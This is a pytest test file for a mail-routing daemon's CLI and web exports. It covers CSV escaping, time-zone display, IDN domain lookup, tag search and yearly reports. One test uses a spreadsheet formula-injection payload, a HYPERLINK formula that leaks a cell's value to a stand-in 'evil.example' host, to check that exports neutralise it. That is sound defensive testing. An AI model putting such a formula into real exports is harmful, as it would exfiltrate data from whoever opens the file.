"""What a head of department gets from the CLI's exports and a request's story, with real
mail through the real daemon into a real registry (SQLite and PostgreSQL): CSV cells a spreadsheet opens
as text, never as a formula; times of a request's story in the company's zone."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from contextlib import redirect_stderr, redirect_stdout
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest

from mailrouter.config import ControlConfig, RegistryConfig
from tests.control_support import mail, send, sign_in, write_routing

pytestmark = pytest.mark.asyncio
MSK = timezone(timedelta(hours=3))
CONTROL = ControlConfig(replies=("replies@example.com",), remind_after=0, escalate_after=7200)


async def _daemon(make_app: Any, tmp_path: Any, url: str,
                  rules: str | None = None) -> tuple[Any, Any]:
    """The daemon on `url` (a SQLite file, or a PostgreSQL database) and a config for the
    CLI; `rules`: routing in place of control_support.ROUTING."""
    routing = write_routing(tmp_path)
    if rules is not None:
        (tmp_path / "rules" / "company.yaml").write_text(rules, encoding="utf-8")
    app = await make_app(routing=routing, control=CONTROL,
                         registry=RegistryConfig(url))
    app.sla_task.cancel()
    cfg = tmp_path / "config.yaml"
    cfg.write_text(f"registry: {{url: '{url}'}}\n"
                   f"routing: ['{tmp_path / 'rules' / '*.yaml'}']\n", encoding="utf-8")
    return app, cfg


async def _cli(*argv: str) -> tuple[int, str]:
    from mailrouter.cli import main
    out = io.StringIO()

    def go() -> int:
        with redirect_stdout(out), redirect_stderr(io.StringIO()):
            try:
                return main(list(argv))
            except SystemExit as exc:
                return int(exc.code or 0)
    code = await asyncio.to_thread(go)
    return code, out.getvalue()


async def test_csv_cells_from_mail_never_become_formulas(make_app, tmp_path, registry_url):
    """A customer's subject starting with = + - @ is written with a leading
    apostrophe, so Excel and LibreOffice show it as text instead of running it; Cyrillic
    and an ordinary subject are left as they are."""
    app, cfg = await _daemon(make_app, tmp_path, registry_url)
    port = app.bound["smtp"][1]
    subjects = ['=HYPERLINK("http://evil.example/?"&A1,"Счёт")', "+7 495 123-45-67",
                "-2+3", "@SUM(A1:A9)", "Счёт на оплату"]
    for i, subject in enumerate(subjects):
        app.pipeline.clock = lambda i=i: datetime(2027, 1, 11, 10, i, tzinfo=MSK)
        await send(port, mail(f"c{i}@client.example", subject, f"m{i}@client"),
                   f"c{i}@client.example")
    code, out = await _cli("registry", "search", "--csv", "-n", "0", "-c", str(cfg))
    assert code == 0
    got = sorted(r["subject"] for r in csv.DictReader(io.StringIO(out)))
    assert got == sorted(["'" + s for s in subjects[:4]] + ["Счёт на оплату"])
    code, out = await _cli("request", "show", "1", "--csv", "-c", str(cfg))
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows[0]["detail"] == "'" + subjects[0]
    code, out = await _cli("registry", "history", "client.example", "--csv", "-c", str(cfg))
    assert "'@SUM(A1:A9)" in out and "\n@SUM" not in out and ",@SUM" not in out


async def test_a_requests_story_is_told_in_the_companys_zone(make_app, tmp_path, registry_url):
    """Monday 2027-01-11 in Moscow: the message at 10:00, the reminder at the due time 14:00
    (4 business hours), the reply at 15:30. `request show`, `registry history` and
    `registry search` print those Moscow times with their offset, in that order; before,
    they printed the UTC wall clock (07:00, 11:00, 12:30) with no zone."""
    from mailrouter.control.sla import Scheduler
    app, cfg = await _daemon(make_app, tmp_path, registry_url)
    port = app.bound["smtp"][1]
    app.pipeline.clock = lambda: datetime(2027, 1, 11, 10, 0, tzinfo=MSK)
    await send(port, mail("anna@client.example", "Счёт 17", "q1@client"), "anna@client.example")
    alerts = await Scheduler(app.registry, CONTROL, app.snapshot).tick(
        datetime(2027, 1, 11, 14, 0, tzinfo=MSK))
    assert [a.stage for a in alerts] == ["remind"]
    app.pipeline.clock = lambda: datetime(2027, 1, 11, 15, 30, tzinfo=MSK)
    await send(port, mail("ivanov@example.com", "Re: Счёт 17", "r1@example.com", "<q1@client>"),
               "ivanov@example.com", "replies@example.com")
    code, out = await _cli("request", "show", "1", "-c", str(cfg))
    assert code == 0
    assert ("opened 2027-01-11 10:00:00+03:00, first response due 2027-01-11 14:00:00+03:00, "
            "answered 2027-01-11 15:30:00+03:00") in out
    story = [line.split()[:3] for line in out.splitlines() if line.startswith("  2027")]
    assert [(day, at) for day, at, _ in story][0] == ("2027-01-11", "10:00:00+03:00")
    assert [(at, what) for _, at, what in story if what in ("message", "reminder")] == [
        ("10:00:00+03:00", "message"), ("14:00:00+03:00", "reminder"),
        ("15:30:00+03:00", "message")]
    code, out = await _cli("registry", "history", "anna@client.example", "-c", str(cfg))
    assert out.startswith("#1 2027-01-11 10:00+03:00 answered"), out
    assert "2027-01-11 10:00:00+03:00 " in out
    code, out = await _cli("registry", "search", "--subject", "счет", "-c", str(cfg))
    assert out.splitlines()[0].startswith("2027-01-11 15:30:00+03:00 "), out
    assert out.count("+03:00 ") == 2


async def test_a_counterpartys_history_by_either_form_of_an_idn_domain(make_app, tmp_path, registry_url):
    """Mail from anna@xn--e1afmkfd.xn--p1ai (пример.рф as it travels) is found by
    `registry history` and by the web's counterparty query whether the head types the
    domain (or the address) in Cyrillic or in punycode, in any case; `%` is no wildcard
    in the CLI either (it listed everyone)."""
    from mailrouter.registry.queries import Scope, counterparty
    app, cfg = await _daemon(make_app, tmp_path, registry_url)
    port = app.bound["smtp"][1]
    app.pipeline.clock = lambda: datetime(2027, 1, 11, 10, 0, tzinfo=MSK)
    await send(port, mail("anna@xn--e1afmkfd.xn--p1ai", "Счёт", "q1@idn"),
               "anna@xn--e1afmkfd.xn--p1ai")
    await send(port, mail("boris@client.example", "Другое", "q2@client"), "boris@client.example")
    for who in ("пример.рф", "ПРИМЕР.РФ", "xn--e1afmkfd.xn--p1ai", "anna@пример.рф",
                "Anna@XN--E1AFMKFD.XN--P1AI"):
        code, out = await _cli("registry", "history", who, "--json", "-c", str(cfg))
        doc = json.loads(out)
        assert code == 0 and [r["id"] for r in doc["requests"]] == [1], who
        assert [m["subject"] for m in doc["messages"]] == ["Счёт"], who
        web = await app.registry.read("t", lambda c, who=who: counterparty(
            c, Scope(everything=True), who))
        assert [m["subject"] for m in web] == ["Счёт"], who
    code, out = await _cli("registry", "history", "%", "--json", "-c", str(cfg))
    assert code == 0 and json.loads(out)["messages"] == [] and json.loads(out)["requests"] == []


async def test_web_pages_show_times_in_the_companys_zone(make_app, tmp_path, registry_url):
    """A message at 22:00 UTC on 2026-12-06 is 01:00 on the 7th in Moscow, the company's
    day the search page finds it under: the search list, the message, the board and the
    request page show 2026-12-07 01:00+03:00 (and the request's history the reminder at
    its Moscow time), not the UTC wall clock of the day before with no zone."""
    import re

    import aiohttp

    from mailrouter.config import Listener, WebConfig
    from mailrouter.control.sla import Scheduler
    from mailrouter.registry.accounts import hash_password, set_password
    utc = timezone.utc
    app = await make_app(routing=write_routing(tmp_path), web=Listener("127.0.0.1", 0),
                         webui=WebConfig(admins=("petrova",)), control=CONTROL,
                         registry=RegistryConfig(registry_url))
    app.sla_task.cancel()
    await app.registry.write("pw", lambda c: set_password(c, "petrova", hash_password("x" * 12),
                                                          datetime(2026, 12, 1, tzinfo=utc)))
    app.pipeline.clock = lambda: datetime(2026, 12, 6, 22, 0, tzinfo=utc)
    await send(app.bound["smtp"][1], mail("c@client.example", "printer", "p1@client"),
               "c@client.example")
    # due Monday 13:00 Moscow (4 business hours from 09:00); reminded at 13:00 = 10:00 UTC
    assert [a.stage for a in await Scheduler(app.registry, CONTROL, app.snapshot).tick(
        datetime(2026, 12, 7, 10, 0, tzinfo=utc))] == ["remind"]
    host, port = app.bound["web"]
    base = f"http://{host}:{port}"
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
        async with http.get(base + "/login") as r:
            token = re.search(r'name="csrf" value="([^"]+)"', await r.text())[1]
        async with http.post(base + "/login", data={"csrf": token, "person": "petrova",
                                                    "password": "x" * 12, "next": "/"},
                             allow_redirects=False) as r:
            assert r.status == 303

        async def page(path: str) -> str:
            async with http.get(base + path) as r:
                assert r.status == 200, path
                return await r.text()
        found = await page("/search?since=2026-12-07&until=2026-12-07")
        key = re.search(r'href="/message/(\w+)"', found)[1]
        for path in ("/search?since=2026-12-07&until=2026-12-07", f"/message/{key}", "/board",
                     "/request/1"):
            text = await page(path)
            assert "2026-12-07 01:00" in text and "2026-12-06 22:00" not in text, path
        story = await page("/request/1")
        assert "2026-12-07 13:00+03:00" in story                  # the due time
        assert "2026-12-07 13:00:00+03:00" in story               # the reminder, in the history
        assert "UTC" not in story


async def test_search_by_tag_gives_n_tagged_messages_not_the_tagged_among_the_newest_n(
        make_app, tmp_path, registry_url):
    """Two urgent messages, then three ordinary ones: `registry search --tag urgent -n 2`
    lists both urgent ones (it listed none: the tag was checked on the newest two only),
    `-n 1` the newer; no tag, `-n 2` the two newest."""
    from tests.control_support import ROUTING
    rules = ROUTING.replace("rules:\n", "rules:\n  - name: urgent\n"
                            "    when: {rcpt: support@example.com, subject: {contains: [срочно]}}\n"
                            "    then: {tags: [urgent]}\n    continue: true\n")
    assert rules != ROUTING
    app, cfg = await _daemon(make_app, tmp_path, registry_url, rules)
    port = app.bound["smtp"][1]
    for i, subject in enumerate(["Срочно: сервер", "срочно принтер", "вопрос 1", "вопрос 2",
                                 "вопрос 3"]):
        app.pipeline.clock = lambda i=i: datetime(2027, 1, 11, 10, i, tzinfo=MSK)
        await send(port, mail(f"c{i}@client.example", subject, f"m{i}@client"),
                   f"c{i}@client.example")

    async def subjects(*argv: str) -> list[str]:
        code, out = await _cli("registry", "search", *argv, "--json", "-c", str(cfg))
        assert code == 0
        return [m["subject"] for m in json.loads(out)]
    assert await subjects("--tag", "urgent", "-n", "2") == ["срочно принтер", "Срочно: сервер"]
    assert await subjects("--tag", "urgent", "-n", "1") == ["срочно принтер"]
    assert await subjects("--tag", "urgent", "-n", "0") == ["срочно принтер", "Срочно: сервер"]
    assert await subjects("-n", "2") == ["вопрос 3", "вопрос 2"]


async def test_the_web_reports_csv_cells_never_become_formulas(make_app, tmp_path):
    """A mailbox `=sales` and an owner `-ivanov` (names the routing files accept): the web
    report's two CSV downloads write them `'=sales` and `'-ivanov`, as `mailrouter report
    --csv` does (one writer, values.write_csv). Before, the web view wrote them as they are
    and a spreadsheet opening the download ran them as formulas."""
    import aiohttp

    from mailrouter.config import Listener, RegistryConfig, WebConfig
    routing = write_routing(tmp_path, "")
    text = (tmp_path / "rules" / "company.yaml").read_text(encoding="utf-8")
    text = (text.replace("  support: {maildir: support}", '  "=sales": {maildir: sales}')
            .replace("support@example.com: mailbox:support", 'support@example.com: "mailbox:=sales"')
            .replace("then: {owner: duty, ", 'then: {owner: "-ivanov", ')
            .replace("  ivanov:  {address", '  "-ivanov": {address').replace("[ivanov, petrova]",
                                                                          "[petrova]"))
    (tmp_path / "rules" / "company.yaml").write_text(text, encoding="utf-8")
    url = f"sqlite+aiosqlite:///{tmp_path / 'r.db'}"
    app = await make_app(routing=routing, web=Listener("127.0.0.1", 0), control=CONTROL,
                         webui=WebConfig(admins=("petrova",)), registry=RegistryConfig(url))
    app.sla_task.cancel()
    await send(app.bound["smtp"][1], mail("c@client.example", "printer", "p1@client"),
               "c@client.example")
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
        base = await sign_in(http, app, datetime.now(timezone.utc))
        got = {}
        for part in ("", "&part=response"):
            async with http.get(f"{base}/report?format=csv{part}") as r:
                assert r.status == 200
                got[part] = list(csv.DictReader(io.StringIO(await r.text())))
    assert [(r["mailbox"], r["owner"]) for r in got[""]] == [("'=sales", "'-ivanov")]
    assert {(r["section"], r["name"]) for r in got["&part=response"]} == {
        ("mailbox", "'=sales"), ("owner", "'-ivanov")}
    cfg = tmp_path / "config.yaml"
    cfg.write_text(f"registry: {{url: '{url}'}}\nrouting: ['{tmp_path / 'rules' / '*.yaml'}']\n",
                   encoding="utf-8")
    code, out = await _cli("report", "--csv", "-c", str(cfg))
    assert code == 0
    cells = {v for r in csv.DictReader(io.StringIO(out)) for v in r.values()}
    assert {"'=sales", "'-ivanov"} <= cells and not {"=sales", "-ivanov"} & cells


async def test_a_years_report_counts_each_team_pick_for_the_person_picked(
        make_app, tmp_path, registry_url):
    """Four customers over a year (the company's first and last minutes of 2026 in Moscow
    among them), each request picked from the team `duty` in turn: `mailrouter report`
    over the whole year counts them for ivanov and petrova, two each, never for the team,
    in volume, response and open per owner; every message is on its Moscow day, and the
    web report's daily volume over the year agrees, on SQLite and PostgreSQL alike."""
    from mailrouter.calendars import company_zone
    from mailrouter.registry.queries import Scope, volume
    app, cfg = await _daemon(make_app, tmp_path, registry_url)
    port = app.bound["smtp"][1]
    times = [datetime(2026, 1, 1, 0, 5, tzinfo=MSK), datetime(2026, 3, 29, 12, 0, tzinfo=MSK),
             datetime(2026, 10, 25, 3, 0, tzinfo=MSK), datetime(2026, 12, 31, 23, 55, tzinfo=MSK)]
    for i, at in enumerate(times):
        app.pipeline.clock = lambda at=at: at
        await send(port, mail(f"c{i}@client.example", f"q{i}", f"y{i}@client"), f"c{i}@client.example")
    code, out = await _cli("report", "--since", "2026-01-01", "--until", "2027-01-01", "--json",
                           "-c", str(cfg))
    assert code == 0
    doc = json.loads(out)
    assert doc["volume_per_owner"] == [{"owner": "ivanov", "requests": 2},
                                       {"owner": "petrova", "requests": 2}]
    assert [r["owner"] for r in doc["response_per_owner"]] == ["ivanov", "petrova"]
    assert [(r["owner"], r["open"]) for r in doc["open_per_owner"]] == [("ivanov", 2), ("petrova", 2)]
    days = ["2026-01-01", "2026-03-29", "2026-10-25", "2026-12-31"]
    assert doc["volume_per_day"] == [{"day": d, "requests": 1} for d in days]
    zone = company_zone(app.snapshot().rules.calendars)
    rows = await app.registry.read("t", lambda c: volume(
        c, Scope(everything=True), times[0].date(), times[-1].date(), zone))
    assert [(r["day"], r["mailbox"], r["messages"]) for r in rows] == [
        (d, "support", 1) for d in days]
    code, out = await _cli("report", "--since", "2026-01-02", "--until", "2026-12-31", "--json",
                           "-c", str(cfg))
    assert [r["day"] for r in json.loads(out)["volume_per_day"]] == days[1:3]
